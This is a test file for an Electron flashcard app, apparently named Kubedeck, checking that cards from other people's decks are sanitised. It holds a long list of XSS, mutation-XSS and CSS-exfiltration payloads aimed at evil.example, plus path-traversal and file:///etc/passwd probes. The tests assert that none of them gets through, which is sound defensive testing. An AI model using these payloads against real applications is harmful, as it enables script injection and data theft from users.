import fc from 'fast-check';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { describe, expect, it, vi } from 'vitest';
import { renderTemplate } from '../../electron/core/anki-template/render-template';
import { brokenRules } from './accessibility';
import { newDataDir, shot, startApp } from './app';
import { openCardPage, showCard } from './card-page';

/** Each would set `window.hacked`, or load something, if any of it got through. */
const hostile = [
  '<script>window.hacked=1</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<ScRiPt>window.hacked=1</sCrIpT>',
  '<scr<script>ipt>window.hacked=1</script>',
  '<img src=x onerror="window.hacked=1">',
  '<img src=x onerror=window.hacked=1//',
  '<img/src=x/onerror=window.hacked=1>',
  '<img """><script>window.hacked=1</script>">',
  '<IMG SRC=javascript:window.hacked=1>',
  '<img src="jav&#x09;ascript:window.hacked=1">',
  '<img srcset="https://evil.example/a.png 1x" src="x.png">',
  '<picture><source srcset="https://evil.example/a.png"><img src="x.png"></picture>',
  '<svg onload="window.hacked=1"></svg>',
  '<svg><script>window.hacked=1</script></svg>',
  '<svg><animate onbegin="window.hacked=1" attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:window.hacked=1"><text y=20>x</text></a></svg>',
  '<svg><a href="https://evil.example/"><text y=20>x</text></a></svg>',
  '<svg src=x.png><rect href="x.svg" width=9 height=9 /></svg><p src="x.png" href="y">x</p><source src="x.mp4">',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=window.hacked=1></svg>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.hacked=1</script>"></iframe></foreignObject></svg>',
  '<svg><image href="https://evil.example/a.png"/></svg>',
  '<svg><set attributeName="href" to="javascript:window.hacked=1"/></svg>',
  '<svg fill="url(https://evil.example/a.svg#x)"><rect width=9 height=9 /></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
  '<math href="javascript:window.hacked=1">click</math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.hacked=1 src>">',
  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=window.hacked=1>"></textarea>',
  '<xmp><img title="</xmp><img src=x onerror=window.hacked=1>">',
  '<title><img title="</title><img src=x onerror=window.hacked=1>">',
  '<template><img src=x onerror=window.hacked=1></template>',
  '<iframe src="javascript:parent.hacked=1"></iframe>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<object data="data:text/html,<script>parent.hacked=1</script>"></object>',
  '<embed src="javascript:window.hacked=1">',
  '<base href="https://evil.example/"><img src="a.png">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel=import href="data:text/html,<script>window.hacked=1</script>">',
  '<form action="https://evil.example/"><input name=a autofocus onfocus="window.hacked=1"><button formaction="javascript:window.hacked=1">go</button></form>',
  '<input type=image src="https://evil.example/a.png">',
  '<isindex type=image src=x onerror=window.hacked=1>',
  '<body onload="window.hacked=1" background="https://evil.example/a.png">',
  '<table background="https://evil.example/a.png"><td background="javascript:window.hacked=1">x</table>',
  '<video poster="https://evil.example/a.png" src="x.mp4" onerror="window.hacked=1"></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<video><source onerror="window.hacked=1" src="https://evil.example/a.mp4"></video>',
  '<details open ontoggle="window.hacked=1"><summary>x</summary></details>',
  '<div style="background:url(https://evil.example/a.png)">x</div>',
  '<div style="background:\\75rl(https://evil.example/a.png)">x</div>',
  '<div style="--a:url(https://evil.example/a.png);background:var(--a)">x</div>',
  '<div style="width:expression(window.hacked=1);behavior:url(x.htc);-moz-binding:url(https://evil.example/x)">x</div>',
  '<div style="background-image:image-set(&quot;https://evil.example/a.png&quot; 1x)">x</div>',
  '<div style="position:fixed;inset:0;z-index:99999;background:red">cover</div>',
  '<style>* { overflow: visible !important }</style><div style="position:absolute;left:-900px;top:-900px;width:4000px;height:4000px;background:red">cover</div>',
  '<style>* { overflow: visible !important } p { transform: scale(200) }</style><p>cover</p>',
  '<style>@import "https://evil.example/x.css"; div{background:url(https://evil.example/b.png)}</style><div>x</div>',
  '<style>@font-face{font-family:f;src:url(https://evil.example/f.woff)} div{font-family:f}</style><div>x</div>',
  '<style>*{--x:\\75 rl(https://evil.example/c.png)} div{background:var(--x)} div::before{content:url(https://evil.example/d.png)}</style><div>x</div>',
  '<style></style><img src=x onerror=window.hacked=1></style>',
  '<style>:host{position:fixed!important;inset:0;contain:none!important} .html-card{display:none}</style>cover',
  '<a href="javascript:window.hacked=1">x</a>',
  '<a href="&#106;avascript:window.hacked=1">x</a>',
  '<a href=" javascript:window.hacked=1">x</a>',
  '<a href="data:text/html,<script>window.hacked=1</script>">x</a>',
  '<a href="file:///etc/passwd">x</a><img src="file:///etc/passwd">',
  '<a href="app://kubedeck/index.html">x</a><img src="app://kubedeck/index.html">',
  '<a href="https://good.example/" onclick="window.hacked=1" target=_top ping="https://evil.example/">x</a>',
  '<a id=location href="https://good.example/">x</a><img name=getElementById src=x.png>',
  '<marquee onstart="window.hacked=1">x</marquee>',
  '<dialog open oncancel="window.hacked=1">x</dialog>',
  '<keygen autofocus onfocus="window.hacked=1">',
  '<img src="data:text/html,<script>window.hacked=1</script>">',
  '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22parent.hacked=1%22><image href=%22https://evil.example/a.png%22/></svg>">',
  '<span data-sound="https://evil.example/a.mp3"></span><span data-sound="../../secret.mp3"></span><span data-sound="javascript:window.hacked=1"></span>',
  '<span data-maths="inline">\\href{javascript:window.hacked=1}{x}\\includegraphics{https://evil.example/a.png}\\htmlData{x=1}{y}</span>',
  '<div data-shape="rect" data-left="&quot;><img src=x onerror=window.hacked=1>"></div><div id="image-occlusion-container"><img src="x.png"></div>',
  '<slot name="typed" onslotchange="window.hacked=1"><img src=x onerror=window.hacked=1></slot>',
  '<!--><img src=x onerror=window.hacked=1>-->',
  '<![CDATA[<img src=x onerror=window.hacked=1>]]>',
  '<?xml version="1.0"?><img src=x onerror=window.hacked=1>',
  '<x onclick=window.hacked=1 onmouseover=window.hacked=1 style="display:block" tabindex=1 id=x>unknown</x>',
  '<p is="x-y" slot="z" part="w" contenteditable onbeforeinput="window.hacked=1">x</p>',
  '<div popover id=p onbeforetoggle=window.hacked=1>x</div><button popovertarget=p>y</button>',
];

const stockCss = '.card { font-family: arial; font-size: 20px; text-align: center; color: black; background-color: white; }';
const cardText = (page: Page) => page.locator('.html-card .card').innerText();

async function start(files: Record<string, string | Buffer> = {}) {
  const dataDir = newDataDir();
  mkdirSync(join(dataDir, 'media'));
  for (const [name, content] of Object.entries(files)) writeFileSync(join(dataDir, 'media', name), content);
  const running = await startApp(dataDir);
  const requests: string[] = [];
  running.page.on('request', (request) => {
    if (!/^(?:app:\/\/kubedeck\/|data:|blob:)/.test(request.url())) requests.push(request.url());
  });
  await openCardPage(running);
  return { ...running, requests };
}

describe('cards of strangers', () => {
  it('run nothing, load nothing and cover nothing', async () => {
    const { page, requests, complaints } = await start();
    for (const html of hostile) {
      for (const dark of [false, true]) await showCard(page, { html, css: stockCss, dark });
      expect(await page.evaluate(() => window.cardPage.leftovers()), html).toEqual([]);
      for (const part of await page.locator('.html-card :is(a, summary, .kd-sound)').all()) await part.click({ force: true });
      expect(await page.evaluate(() => 'hacked' in window), html).toBe(false);
    }
    // Errors and frames of the last ones take a moment.
    await page.evaluate(() => new Promise((done) => setTimeout(done, 300)));
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    expect(requests).toEqual([]);
    expect(page.url()).toBe('app://kubedeck/index.html');
    // Missing files are to be expected; a base address is refused by the policy even where the card is only looked through.
    expect(complaints.filter((each) => !/404|base-uri/.test(each))).toEqual([]);
  });

  it('do not get through cut up and mixed either', async () => {
    const { page, requests } = await start();
    const part = fc
      .tuple(fc.constantFrom(...hostile), fc.double({ min: 0, max: 1, noNaN: true }), fc.double({ min: 0, max: 1, noNaN: true }))
      .map(([html, from, to]) => html.slice(Math.min(from, to) * html.length, Math.max(from, to) * html.length));
    const mixed = fc.array(fc.oneof(part, fc.constantFrom(...hostile)), { minLength: 2, maxLength: 5 }).map((parts) => parts.join(''));
    const found = await page.evaluate(
      async (cards) => {
        const wrong: string[] = [];
        for (const html of cards) {
          await window.cardPage.show({ html });
          for (const what of window.cardPage.leftovers()) wrong.push(`${what} of ${html}`);
        }
        return wrong;
      },
      fc.sample(mixed, 2000),
    );
    expect(found).toEqual([]);
    expect(requests).toEqual([]);
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  });

  it('style only themselves', async () => {
    const { page, requests } = await start();
    const css = `
      @import url("https://evil.example/a.css");
      :root { --own: rgb(1, 2, 3); }
      html body .own { color: var(--own); }
      body { letter-spacing: 2px; min-height: 100vh }
      * { text-transform: uppercase }
      .escape { position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; background: red }
      .file { background: url("https://evil.example/x.png"), url(_own.png) }
      .own-file { background: url(_own.png) }
      .hidden { --u: url(https://evil.example/y.png); background: var(--u) }
      @media (min-width: 1px) { .media { list-style: url(//evil.example/z.png) } }
      @keyframes k { from { background: url(https://evil.example/k.png) } to { opacity: 1 } }
      ::slotted(*) { display: none } :host { display: none }
      broken { color: `;
    await showCard(page, { html: '<p class="own">own</p><p class="own-file">f</p><p class="escape">e</p>', css });
    const styles = await page.evaluate(() => {
      const root = document.querySelector('.html-card > div')?.shadowRoot;
      const of = (selector: string) => {
        const element = root?.querySelector(selector);
        return element ? getComputedStyle(element) : null;
      };
      return {
        own: of('.own')?.color,
        spacing: of('.card')?.letterSpacing,
        file: of('.own-file')?.backgroundImage,
        position: of('.escape')?.position,
        height: of('.card')?.minHeight,
        outside: getComputedStyle(document.body).textTransform,
        text: root?.adoptedStyleSheets.map((sheet) => [...sheet.cssRules].map((rule) => rule.cssText).join(' ')).join(' '),
      };
    });
    expect(styles).toMatchObject({
      own: 'rgb(1, 2, 3)',
      spacing: '2px',
      file: 'url("app://kubedeck/media/_own.png")',
      position: 'static',
      height: '0px',
      outside: 'none',
    });
    expect(styles.text).not.toContain('evil');
    expect(requests).toEqual([]);
  });

  it('bring their fonts, and take them along', async () => {
    const file = join(import.meta.dirname, '../../node_modules/@fontsource-variable/inter/files/inter-latin-wght-normal.woff2');
    const { page } = await start({ '_deck.woff2': readFileSync(file) });
    const families = () =>
      page.evaluate(() =>
        [...document.fonts].map(({ family, status }) => `${family} ${status}`).filter((each) => /^(?:deck|other)/.test(each)),
      );
    const css = `@font-face { font-family: "deck"; src: url("_deck.woff2") } @font-face { font-family: Inter Variable; src: url(_deck.woff2) }
      @font-face { font-family: other; src: url(https://evil.example/f.woff2) } .card { font-family: deck }`;
    await showCard(page, { html: 'in its own letters', css });
    await vi.waitUntil(async () => (await families())[0] === 'deck loaded');
    expect(await families()).toEqual(['deck loaded']);
    await showCard(page, { html: 'plain' });
    expect(await families()).toEqual([]);
  });

  it('keep words that look like code', async () => {
    const { page } = await start();
    const words = 'javascript: the good parts; if a<b && c>d then kubectl -n <namespace> get po; x &lt;tag&gt; &amp;&amp; y';
    const card = renderTemplate({
      front: '{{Front}}',
      back: '',
      cloze: false,
      fields: [{ name: 'Front', value: words }],
      tags: [],
      deck: '',
      cardOrd: 0,
      notetypeName: '',
      templateName: '',
    });
    await showCard(page, { html: card.front });
    expect(await cardText(page)).toBe('javascript: the good parts; if a<b && c>d then kubectl -n <namespace> get po; x <tag> && y');
  });
});

const card = (page: Page) => page.locator('.html-card');

/** A second of silence. */
function silence(seconds = 0.2): Buffer {
  const samples = Math.round(8000 * seconds);
  const header = Buffer.alloc(44);
  header.write('RIFF', 0);
  header.writeUInt32LE(36 + samples, 4);
  header.write('WAVEfmt ', 8);
  header.writeUInt32LE(16, 16);
  header.writeUInt16LE(1, 20);
  header.writeUInt16LE(1, 22);
  header.writeUInt32LE(8000, 24);
  header.writeUInt32LE(8000, 28);
  header.writeUInt16LE(1, 32);
  header.writeUInt16LE(8, 34);
  header.write('data', 36);
  header.writeUInt32LE(samples, 40);
  return Buffer.concat([header, Buffer.alloc(samples, 128)]);
}

const dot = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
const drawing = (width: number, height: number, inside = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}"><rect width="100%" height="100%" fill="#cde"/>${inside}</svg>`;

describe('media', () => {
  it('shows the deck’s pictures and says which are missing', async () => {
    const { page } = await start({ 'a b&c.png': dot, 'wide.svg': drawing(4000, 300, '<script>parent.hacked=1</script>') });
    await showCard(page, {
      html: '<img src="a%20b&amp;c.png"><img src="wide.svg"><img src="gone.png"><img src="../x.png" alt="beside">',
      css: stockCss,
    });
    await page.getByText('Picture missing: gone.png').waitFor();
    await page.getByText('Picture not shown: beside').waitFor();
    const widths = () =>
      card(page)
        .locator('img')
        .evaluateAll((images) => images.map((image) => [(image as HTMLImageElement).naturalWidth, image.clientWidth]));
    await vi.waitUntil(async () => (await widths()).every(([natural]) => natural !== 0));
    const [small, wide] = await widths();
    expect(small).toEqual([1, 1]);
    expect(wide?.[0]).toBe(4000);
    expect(wide?.[1]).toBeLessThanOrEqual(720);
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  });

  it('serves files by name, parts of them, and nothing that runs', async () => {
    const { page } = await start({ 'a.wav': silence(), 'x.svg': drawing(1, 1), 'x.html': '<script></script>' });
    const answers = await page.evaluate(async () => {
      const get = async (path: string, range = '') => {
        const { status, headers } = await fetch(`app://kubedeck/media/${path}`, range ? { headers: { Range: range } } : {});
        return [status, headers.get('content-type'), headers.get('content-range'), headers.get('x-content-type-options')];
      };
      return [
        await get('a.wav'),
        await get('a.wav', 'bytes=10-19'),
        await get('a.wav', 'bytes=9999999-'),
        await get('x.html'),
        await get('..%2fkubedeck.db'),
        await get('missing.png'),
      ];
    });
    expect(answers.map(([status]) => status)).toEqual([200, 206, 416, 404, 404, 404]);
    expect(answers[0]).toEqual([200, 'audio/wav', null, 'nosniff']);
    expect(answers[1]?.[2]).toMatch(/^bytes 10-19\/\d+$/);
    const policy = await page.evaluate(async () => (await fetch('app://kubedeck/media/x.svg')).headers.get('content-security-policy'));
    expect(policy).toContain('sandbox');
  });

  it('plays recordings when asked, one after another', async () => {
    const { page } = await start({ '1.wav': silence(), '2.wav': silence() });
    await showCard(page, {
      html: '<span data-sound="1.wav"></span> word <span data-sound="2.wav"></span><span data-sound="gone.mp3"></span>',
    });
    const playing = () =>
      card(page)
        .locator('.playing')
        .evaluateAll((buttons) => buttons.map((button) => button.getAttribute('aria-label')));
    expect(await playing()).toEqual([]);
    expect(await page.evaluate(() => window.cardPage.replay())).toBe(true);
    const heard: string[] = [];
    await vi.waitUntil(
      async () => {
        const [now] = await playing();
        if (now && heard.at(-1) !== now) heard.push(now);
        return (await page.getByText('Recording missing: gone.mp3').count()) === 1;
      },
      { interval: 20, timeout: 10_000 },
    );
    expect(heard.slice(0, 2)).toEqual(['Play 1.wav', 'Play 2.wav']);
    await vi.waitUntil(async () => (await playing()).length === 0);
    await card(page).getByRole('button', { name: 'Play 2.wav' }).focus();
    await page.keyboard.press('Enter');
    expect(await playing()).toEqual(['Play 2.wav']);
    expect(await page.evaluate(() => window.cardPage.keys)).not.toContain('Enter');
    await showCard(page, { html: 'silent' });
    expect(await page.evaluate(() => window.cardPage.replay())).toBe(false);
  });

  it('gets pictures from elsewhere only on a click', async () => {
    const { page, requests } = await start({ 'dot.png': dot });
    await showCard(page, {
      html: '<img src="https://pictures.example/a.png"> <img src="//other.example/b.png"> <img src="http://pictures.example/a.png">',
      remote: { 'https://pictures.example/a.png': 'app://kubedeck/media/dot.png' },
    });
    expect(await card(page).locator('img').count()).toBe(0);
    await shot(page, 'html-card-remote');
    await card(page).getByRole('button', { name: 'Load picture from pictures.example' }).first().click();
    await page.getByText('Picture could not be loaded from other.example').waitFor();
    expect(
      await card(page)
        .locator('img')
        .evaluateAll((images) => images.map((image) => image.getAttribute('src'))),
    ).toEqual(['app://kubedeck/media/dot.png']);
    expect(await page.evaluate(() => window.cardPage.asked)).toEqual([
      ['https://pictures.example/a.png', 'https://other.example/b.png', 'http://pictures.example/a.png'],
    ]);
    expect(requests).toEqual([]);
  });
});

describe('what a card can do', () => {
  it('opens links outside, and only when they are clicked', async () => {
    const { page } = await start();
    await showCard(page, {
      html: '<a href="https://kubernetes.io/docs/">docs</a> <a href="http://old.example/a?b=1&amp;c">old</a> <a href="#top">top</a>',
    });
    await card(page).getByText('old').click();
    await card(page).getByText('top').click();
    await card(page).getByRole('link', { name: 'docs' }).focus();
    await page.keyboard.press('Enter');
    expect(await page.evaluate(() => window.cardPage.links)).toEqual(['https://old.example/a?b=1&c', 'https://kubernetes.io/docs/']);
    expect(page.url()).toBe('app://kubedeck/index.html');
  });

  it('shows hints on request, by keyboard too', async () => {
    const { page } = await start();
    await showCard(page, { html: '<details class="hint"><summary>Hint</summary><div>the node agent</div></details>' });
    expect(await card(page).getByText('the node agent').isVisible()).toBe(false);
    await card(page).getByText('Hint').focus();
    await page.keyboard.press('Space');
    expect(await card(page).getByText('the node agent').isVisible()).toBe(true);
    expect(await page.evaluate(() => window.cardPage.keys)).toEqual([]);
  });

  it('draws formulas', async () => {
    const { page } = await start();
    await showCard(page, {
      html: '<span data-maths="inline">\\frac{a}{b}</span> <span data-maths="display">\\sum_i i &lt; 3</span> <span data-maths="inline">\\nonsense{</span>',
    });
    await card(page).locator('mfrac').waitFor();
    expect(await card(page).locator('math').count()).toBeGreaterThanOrEqual(2);
  });

  it('has a place for what is typed', async () => {
    const { page } = await start();
    await showCard(page, { html: 'Which agent? <slot></slot> after', typed: true });
    await page.getByLabel('Your answer').fill('kubelet');
    const [box, text] = [await page.getByLabel('Your answer').boundingBox(), await card(page).boundingBox()];
    expect(box && text && box.y >= text.y && box.y < text.y + text.height).toBe(true);
  });

  it('hides the masked parts of a picture', async () => {
    const { page } = await start({ 'map.svg': drawing(600, 300) });
    const masks =
      '<div style="display: none"><div class="cloze" data-ordinal="1" data-shape="rect" data-left=".1" data-top=".2" data-width=".3" data-height=".4"></div>' +
      '<div class="cloze-inactive" data-ordinal="2" data-shape="ellipse" data-left=".6" data-top=".2" data-rx=".1" data-ry=".2" data-occludeinactive="1"></div>' +
      '<div class="cloze-inactive" data-ordinal="3" data-shape="polygon" data-points="0,0 1,1 0,1"></div>' +
      '<div class="cloze" data-ordinal="0" data-shape="text" data-left=".5" data-top=".8" data-text="north"></div></div><button>Toggle</button>';
    await showCard(page, {
      html: `${masks}<div id="image-occlusion-container"><img src="map.svg"><canvas id="image-occlusion-canvas"></canvas></div>`,
      css: '#image-occlusion-canvas { --active-shape-color: rgb(9, 8, 7) }',
    });
    const shapes = card(page).locator('.kd-masks > *');
    expect(await shapes.evaluateAll((all) => all.map((shape) => [shape.tagName, getComputedStyle(shape).fill]))).toEqual([
      ['rect', 'rgb(9, 8, 7)'],
      ['ellipse', 'rgb(255, 235, 162)'],
    ]);
    await vi.waitUntil(async () => (await shapes.first().boundingBox())?.width !== 0);
    expect(await cardText(page)).toBe('north');
    const [image, mask] = [await card(page).locator('img').boundingBox(), await shapes.first().boundingBox()];
    expect(mask && image && mask.width / image.width).toBeCloseTo(0.3, 1);
    await shot(page, 'html-card-masks');
  });
});

describe('how it looks', () => {
  const row = `<tr>${'<td>a wide cell of a table</td>'.repeat(20)}</tr>`;
  const cases: Record<string, { html: string; css?: string }> = {
    stock: {
      html: 'What runs on every <b>node</b>?<hr id=answer><span class="cloze">[...]</span> <code>kubelet</code> <span data-sound="a.mp3"></span>',
      css: `${stockCss} .cloze { font-weight: bold; color: blue; } .nightMode .cloze { color: lightblue; }`,
    },
    own: {
      html: '<h3>Own colours</h3><p>On a panel of its own.</p>',
      css: '.card { background: #fdf6e3; color: #586e75; font-family: Georgia } .card.nightMode { background: #002b36; color: #93a1a1 }',
    },
    wide: { html: `<table border=1>${row.repeat(3)}</table><pre>${'a long line of code '.repeat(20)}</pre>${'word'.repeat(200)}` },
    rtl: { html: '<div>מה רץ על כל צומת? kubelet.</div><div>And a line in English.</div><ul><li>סעיף ראשון</li></ul>' },
    huge: { html: `<p>${'Words and more words of a field that somebody pasted. '.repeat(1000)}</p>` },
    ruby: {
      html: '<ruby><rb>日本</rb><rt>にほん</rt></ruby> <details class="hint" open><summary>Hint</summary><div>a country</div></details><img src="gone.png"> <img src="https://pictures.example/a.png">',
    },
  };

  it.each(Object.entries(cases))('%s, in both themes', async (name, shown) => {
    const { page } = await start();
    for (const dark of [false, true]) {
      await showCard(page, { ...shown, dark });
      const { overflow, tall } = await page.evaluate(() => ({
        overflow: document.documentElement.scrollWidth > innerWidth,
        tall: (document.querySelector('.html-card')?.clientHeight ?? 0) > 20,
      }));
      expect({ overflow, tall }).toEqual({ overflow: false, tall: true });
      // The page around the card is bare: it has no heading of its own.
      expect((await brokenRules(page)).filter((rule) => !rule.startsWith('page-has-heading-one'))).toEqual([]);
      await shot(page, `html-card-${name}-${dark ? 'dark' : 'light'}`);
    }
  });

  it('as large as the person wants all text', async () => {
    const { page } = await start();
    const css = '* { font-size: 20px; line-height: 30px }';
    const heights = async (size: string) => {
      await page.evaluate((value) => (document.documentElement.style.fontSize = value), size);
      await showCard(page, { html: '<p>one line</p><slot></slot>', css, typed: true });
      const boxes = [await page.getByText('one line').boundingBox(), await page.getByLabel('Your answer').boundingBox()];
      return boxes.map((box) => box?.height ?? 0);
    };
    const [line = 0, field = 0] = await heights('100%');
    const [largeLine = 0, largeField = 0] = await heights('200%');
    expect(line).toBe(30);
    expect(largeLine / line).toBe(2);
    // What is put into the card grows as much as the rest of the app, not twice.
    expect(largeField / field).toBeCloseTo(2, 0);
  });
});
